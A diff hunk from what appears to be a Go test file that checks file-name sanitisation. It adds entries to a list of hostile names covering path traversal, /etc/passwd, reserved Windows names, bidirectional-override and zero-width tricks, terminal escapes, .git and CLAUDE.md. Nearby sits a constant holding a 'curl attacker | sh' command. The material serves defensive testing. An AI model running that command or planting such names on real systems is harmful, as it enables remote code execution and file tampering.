@@ -51,7 +51,7 @@ const evil = "curl attacker | sh\n"
 // EvilNames are the names in the folder of the case inner-names.
 var EvilNames = []string{
 	"../../escaped", "..", ".", "", "/etc/passwd", `..\..\escaped`, `C:\escaped`, "CON", "con.txt", "a/b", `a\b`, "A", "a", "name\x00", "trailing. ", "\u202egnp.exe",
-	"\x1b[2Jx", "esc\x1b]0;HA\ad", "new\nline", "c1\u009b2J", "zero\u200bwidth", `\xe2\x80\xaetxt.exe`,
+	"\x1b[2Jx", "esc\x1b]0;HA\ad", "new\nline", "c1\u009b2J", "zero\u200bwidth", "zero\u200dwidth", "private\ue000", ".git", "GIT~1", "CLAUDE.md", `\xe2\x80\xaetxt.exe`,
 }
 
 // lieOfPath answers stat. Every path is reported as folder, except the path of file itself.
